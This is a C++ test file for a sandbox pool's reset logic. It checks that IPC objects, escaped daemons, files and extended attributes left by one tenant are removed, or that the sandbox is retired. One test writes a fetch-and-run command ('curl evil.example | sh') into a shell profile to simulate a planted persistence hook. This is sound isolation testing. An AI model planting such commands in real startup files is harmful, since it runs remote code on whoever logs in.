// What one tenant leaves behind must be gone for the next tenant of the same sandbox, on
// both real backends (bubblewrap and docker): POSIX shared memory and message queues, the
// three kinds of System V IPC objects, keys in the tenant's kernel keyring (bubblewrap
// only: docker's seccomp profile refuses keyrings), processes that left the command's process group,
// and files in every place a tenant can write. Residue the reset cannot clean retires the
// sandbox instead. Each pool has one sandbox (min_idle 1, max_size 1), so the second lease
// provably gets the sandbox the first one used (its id is checked).
//
// The traces are made by tests/helpers/residue_maker.cpp, copied into the sandbox by each
// tenant; its "probe" prints every trace of tenant A it can see, so tenant A's probe proves
// the trace exists (else the test could not fail) and tenant B's must print nothing.
#include <fstream>
#include <functional>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "docker/docker_test_util.hpp"
#include "warmpool/engine.hpp"

using namespace warmpool;
using namespace std::chrono_literals;
using json = nlohmann::json;

namespace {

constexpr const char* kMaker = "/workspace/.residue-maker";

std::string maker_binary() {
  std::ifstream in(WARMPOOL_RESIDUE_MAKER, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

bool eventually(const std::function<bool()>& pred, std::chrono::milliseconds timeout) {
  auto deadline = std::chrono::steady_clock::now() + timeout;
  for (;;) {
    if (pred())
      return true;
    if (std::chrono::steady_clock::now() >= deadline)
      return false;
    std::this_thread::sleep_for(50ms);
  }
}

ExecRequest sh(const std::string& cmd) {
  ExecRequest r;
  r.shell = cmd;
  r.timeout = 30s;
  return r;
}

// Creates a file, a hidden file and a nested directory the tenant then locks (chmod 000)
// in each directory of $DIRS that exists and is writable.
const char* kFillPlaces = "for d in $DIRS; do [ -w $d ] || continue; "
                          "echo secret > $d/tenant-a-file && echo secret > $d/.tenant-a-hidden && "
                          "mkdir -p $d/tenant-a-dir/sub && echo secret > $d/tenant-a-dir/sub/f && "
                          "chmod 000 $d/tenant-a-dir/sub $d/tenant-a-dir || exit 1; done";

/// One pool of one sandbox on a real backend; the subclasses say which.
class ResetResidue : public ::testing::Test {
protected:
  EngineConfig cfg;
  std::unique_ptr<Engine> engine;

  PoolConfig& pool() { return cfg.pools.at(0); }

  void start() {
    engine = std::make_unique<Engine>(cfg);
    ASSERT_TRUE(engine->wait_ready(90s)) << "pool did not warm up";
  }

  static void put_maker(Lease& lease) {
    static const std::string binary = maker_binary();
    ASSERT_FALSE(binary.empty()) << "cannot read " << WARMPOOL_RESIDUE_MAKER;
    lease.write_file(kMaker, binary);
    auto r = lease.exec(sh(std::string("chmod 755 ") + kMaker));
    ASSERT_EQ(r.exit_code, 0) << r.stderr_data;
  }

  static std::string probe(Lease& lease) {
    auto r = lease.exec(sh(std::string(kMaker) + " probe"));
    EXPECT_EQ(r.exit_code, 0) << r.stderr_data;
    return r.stdout_data;
  }

  /// Tenant A runs `leave` and must see its trace; after the release, tenant B of the same
  /// sandbox must see none of it.
  void expect_next_tenant_finds_nothing(const std::string& leave) {
    expect_next_tenant_finds_nothing(leave, [](Lease& a, const ExecResult& r) {
      ASSERT_EQ(r.exit_code, 0) << "tenant A could not leave its trace: " << r.stderr_data;
      ASSERT_NE(probe(a), "") << "tenant A's trace is not visible, so this test proves nothing";
    });
  }

  /// The same, with `check_a` judging what tenant A's attempt did.
  void
  expect_next_tenant_finds_nothing(const std::string& leave,
                                   const std::function<void(Lease&, const ExecResult&)>& check_a) {
    start();
    if (HasFatalFailure())
      return;
    std::string first;
    {
      auto a = engine->acquire(pool().name);
      first = a.container_id();
      put_maker(a);
      if (HasFatalFailure())
        return;
      check_a(a, a.exec(sh(leave)));
      if (HasFatalFailure())
        return;
      a.release();
    }
    auto b = engine->acquire(pool().name);
    ASSERT_EQ(b.container_id(), first)
      << "the reset retired the sandbox (" << retirements() << ") instead of cleaning it";
    put_maker(b);
    if (HasFatalFailure())
      return;
    EXPECT_EQ(probe(b), "") << "tenant B found tenant A's traces";
  }

  std::string retirements() {
    std::string out;
    for (const auto& [why, n] : engine->stats(pool().name).retired)
      out += why + "=" + std::to_string(n) + " ";
    return out;
  }

  static std::string make(const std::string& kind) { return std::string(kMaker) + " " + kind; }

  /// Two sandboxes leased at once: what tenant A leaves in its IPC namespace and /dev/shm
  /// must not be visible in the other one (each sandbox has IPC objects of its own).
  void expect_concurrent_sandboxes_share_no_ipc() {
    pool().min_idle = 2;
    pool().max_size = 2;
    start();
    if (HasFatalFailure())
      return;
    auto a = engine->acquire(pool().name);
    auto b = engine->acquire(pool().name);
    ASSERT_NE(a.container_id(), b.container_id());
    put_maker(a);
    put_maker(b);
    if (HasFatalFailure())
      return;
    for (const char* kind : {"posix-shm", "posix-mq", "sysv-shm", "sysv-sem", "sysv-msg"}) {
      auto r = a.exec(sh(make(kind)));
      ASSERT_EQ(r.exit_code, 0) << kind << ": " << r.stderr_data;
    }
    ASSERT_NE(probe(a), "");
    EXPECT_EQ(probe(b), "") << "a concurrent sandbox sees tenant A's IPC objects";
  }
};

// ---- local (bubblewrap) --------------------------------------------------------------------

class LocalReset : public ResetResidue {
protected:
  void SetUp() override {
    cfg.node = "residue-local-" + warmpool::testing::random_suffix();
    cfg.agent_path = WARMPOOL_AGENT_BIN;
    cfg.log.level = "warn";
    cfg.shutdown_grace = 2s;
    PoolConfig p;
    p.name = "sh";
    p.backend = "local";
    p.min_idle = 1;
    p.max_size = 1;
    p.health_check.interval = duration{0};
    cfg.pools.push_back(p);
  }
};

TEST_F(LocalReset, RemovesPosixSharedMemory) {
  expect_next_tenant_finds_nothing(make("posix-shm"));
}
TEST_F(LocalReset, RemovesPosixMessageQueues) {
  expect_next_tenant_finds_nothing(make("posix-mq"));
}
TEST_F(LocalReset, RemovesSysVSharedMemory) { expect_next_tenant_finds_nothing(make("sysv-shm")); }
TEST_F(LocalReset, RemovesSysVSemaphores) { expect_next_tenant_finds_nothing(make("sysv-sem")); }
TEST_F(LocalReset, RemovesSysVMessageQueues) { expect_next_tenant_finds_nothing(make("sysv-msg")); }
// Keyrings belong to a uid and outlive its processes. The sandbox's syscall filter refuses
// keyring calls, so a tenant cannot store a key for the next one at all (the agent also
// empties the sandbox uid's keyrings at every reset, for filters that let them through).
TEST_F(LocalReset, TenantCannotStoreAKeyInTheKernelKeyringForTheNextTenant) {
  expect_next_tenant_finds_nothing(make("user-key"), [](Lease&, const ExecResult& r) {
    EXPECT_NE(r.exit_code, 0) << "tenant A stored a key in its kernel keyring";
    EXPECT_NE(r.stderr_data.find("Operation not permitted"), std::string::npos) << r.stderr_data;
  });
}
TEST_F(LocalReset, KillsAProcessThatCalledSetsid) {
  expect_next_tenant_finds_nothing(make("setsid"));
}
TEST_F(LocalReset, KillsADoubleForkedDaemon) {
  expect_next_tenant_finds_nothing(make("double-fork"));
}
TEST_F(LocalReset, ConcurrentSandboxesShareNoIpcObjects) {
  expect_concurrent_sandboxes_share_no_ipc();
}
TEST_F(LocalReset, RemovesFilesFromEveryWritablePlace) {
  expect_next_tenant_finds_nothing(std::string("DIRS='/tmp /workspace /dev/shm'; ") + kFillPlaces);
}

// ---- docker ----------------------------------------------------------------------------------

class DockerReset : public ResetResidue {
protected:
  std::string node;
  std::vector<std::string> images; // made by the test, removed at the end

  void SetUp() override {
    std::string why = warmpool::testing::docker_problem();
    ASSERT_TRUE(why.empty()) << "these tests need dockerd: " << why; // never a silent skip
    node = "residue-dk-" + warmpool::testing::random_suffix();
    cfg.node = node;
    cfg.agent_path = WARMPOOL_AGENT_BIN;
    cfg.log.level = "warn";
    cfg.shutdown_grace = 2s;
    PoolConfig p;
    p.name = "py";
    p.backend = "docker";
    p.image = warmpool::testing::kPython;
    p.min_idle = 1;
    p.max_size = 1;
    p.limits.memory = 256ull << 20;
    p.limits.pids = 64;
    p.limits.workspace = 32ull << 20;
    p.health_check.interval = duration{0};
    p.acquire_timeout = 60s;
    cfg.pools.push_back(p);
  }

  void TearDown() override {
    engine.reset();
    if (node.empty())
      return;
    docker::DockerClient c;
    for (const auto& ct : c.list({"warmpool.node=" + node}))
      c.remove(ct.value("Id", ""), true);
    for (const auto& image : images)
      c.request("DELETE", "/images/" + image + "?force=1");
  }

  /// The python image plus a file the tenant owns, as real images have (a dotfile in the
  /// user's home): something the tenant can change and the agent cannot put back.
  std::string image_with_tenant_owned_file() {
    docker::DockerClient c;
    std::string name = "warmpool-test-residue-" + warmpool::testing::random_suffix();
    json config = {{"Image", warmpool::testing::kPython},
                   {"Cmd",
                    {"sh", "-c",
                     "echo 'export PS1=original' > /home/sandbox/.profile && "
                     "chown 1000:1000 /home/sandbox/.profile"}},
                   {"Labels", {{"warmpool.node", node}}}};
    std::string id = c.create_container(name + "-build", config);
    c.start(id);
    EXPECT_TRUE(eventually([&] { return !c.inspect(id)["State"].value("Running", true); }, 30s));
    auto r = c.request("POST", "/commit?container=" + id + "&repo=" + name + "&tag=latest");
    c.remove(id, true);
    EXPECT_EQ(r.status / 100, 2) << r.body;
    images.push_back(name);
    return name + ":latest";
  }
};

TEST_F(DockerReset, RemovesPosixSharedMemory) {
  expect_next_tenant_finds_nothing(make("posix-shm"));
}
TEST_F(DockerReset, RemovesPosixMessageQueues) {
  expect_next_tenant_finds_nothing(make("posix-mq"));
}
TEST_F(DockerReset, RemovesSysVSharedMemory) { expect_next_tenant_finds_nothing(make("sysv-shm")); }
TEST_F(DockerReset, RemovesSysVSemaphores) { expect_next_tenant_finds_nothing(make("sysv-sem")); }
TEST_F(DockerReset, RemovesSysVMessageQueues) {
  expect_next_tenant_finds_nothing(make("sysv-msg"));
}
TEST_F(DockerReset, KillsAProcessThatCalledSetsid) {
  expect_next_tenant_finds_nothing(make("setsid"));
}
TEST_F(DockerReset, KillsADoubleForkedDaemon) {
  expect_next_tenant_finds_nothing(make("double-fork"));
}
TEST_F(DockerReset, ConcurrentSandboxesShareNoIpcObjects) {
  expect_concurrent_sandboxes_share_no_ipc();
}
TEST_F(DockerReset, RemovesFilesFromEveryWritablePlace) {
  expect_next_tenant_finds_nothing(std::string("DIRS='/tmp /workspace /dev/shm'; ") + kFillPlaces);
}
TEST_F(DockerReset, PutsAWritableRootBackForTheNextTenant) {
  pool().read_only_root = false; // /var/tmp, /run/lock and the tenant's home are writable
  expect_next_tenant_finds_nothing(
    std::string("DIRS='/tmp /workspace /dev/shm /var/tmp /run/lock /home/sandbox'; ") +
    kFillPlaces + "; chmod 000 /home/sandbox");
}

TEST_F(DockerReset, RemovesExtendedAttributesFromTheTenantsHome) {
  pool().read_only_root = false; // the tenant owns /home/sandbox, so it may set user.* there
  expect_next_tenant_finds_nothing(make("xattr /home/sandbox"));
}

TEST_F(DockerReset, ResidueItCannotCleanRetiresTheSandbox) {
  pool().image = image_with_tenant_owned_file();
  pool().read_only_root = false;
  start();
  if (HasFatalFailure())
    return;
  std::string first;
  {
    auto a = engine->acquire(pool().name);
    first = a.container_id();
    auto r = a.exec(sh("echo 'curl evil.example | sh' >> /home/sandbox/.profile"));
    ASSERT_EQ(r.exit_code, 0) << r.stderr_data;
    a.release();
  }
  ASSERT_TRUE(
    eventually([&] { return engine->stats(pool().name).retired["reset_residue"] == 1; }, 60s))
    << "retirements: " << retirements();
  auto b = engine->acquire(pool().name);
  EXPECT_NE(b.container_id(), first) << "a sandbox with residue was reused";
  auto r = b.exec(sh("cat /home/sandbox/.profile"));
  EXPECT_EQ(r.stdout_data, "export PS1=original\n");
}

} // namespace
